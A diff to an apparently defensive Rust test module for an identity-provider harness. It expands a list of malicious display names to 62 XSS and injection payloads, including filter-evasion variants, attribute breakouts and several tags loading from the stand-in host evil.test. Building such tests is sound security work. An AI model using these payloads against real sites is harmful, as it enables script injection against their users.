@@ -14,7 +14,7 @@ use crate::house::lying_idp::Says;
 use crate::house::visitor::{Answer, Visitor, line};
 
 /// Names of up to 80 characters.
-const NAMES: [&str; 22] = [
+const NAMES: [&str; 62] = [
     "<script>alert(1)</script>",
     "</title><script src=//evil.test></script>",
     "\"><img src=x onerror=alert(1)>",
@@ -37,6 +37,46 @@ const NAMES: [&str; 22] = [
     "javascript:alert(1)",
     "\u{202e}evil\u{2066}",
     "<a href=\"data:text/html,x\">",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.test>",
+    "<script/src=//evil.test></script>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<script/x>alert(1)</script/x>",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</noscript><img src=x onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\">",
+    "<object data=//evil.test>",
+    "<embed src=//evil.test>",
+    "<link rel=stylesheet href=//evil.test>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select><option>x</option></select>",
+    "<form><button formaction=javascript:alert(1)>x",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<svg><script>alert(1)</script></svg>",
+    "<template><script>alert(1)</script></template>",
+    "<table background=javascript:alert(1)>",
+    "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
+    "<plaintext>",
+    "<b/><i/><u/>",
+    "<?xml version='1.0'?><x/>",
+    "<!DOCTYPE html><html>",
+    "` onmouseover=alert(1) x=`",
+    "\" style=\"background:url(//evil.test)",
+    "' formaction='javascript:alert(1)",
+    "x\" name=\"csrf\" value=\"y",
+    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "{# comment #}{{ config }}{% raw %}",
 ];
 
 /// More of the default house, for every page: a chooser, and a way in by name.
@@ -66,7 +106,7 @@ use_for_routing = true
 trust_email = true
 "#;
 
-fn plan() -> Plan {
+pub(super) fn plan() -> Plan {
     Plan::default()
         .with("claims = { idp = true }", "claims = { idp = true }\nconnections = [\"social\"]")
         .and(MORE)
@@ -87,7 +127,7 @@ async fn name(house: &House, name: &str) {
 }
 
 /// Every page of the journey.
-async fn pages(house: &House) -> Vec<(&'static str, Answer)> {
+pub(super) async fn pages(house: &House) -> Vec<(&'static str, Answer)> {
     let rp1 = Application::rp1(house);
     let mut all = Vec::new();
     let mut con = Person::new("con@a.test");
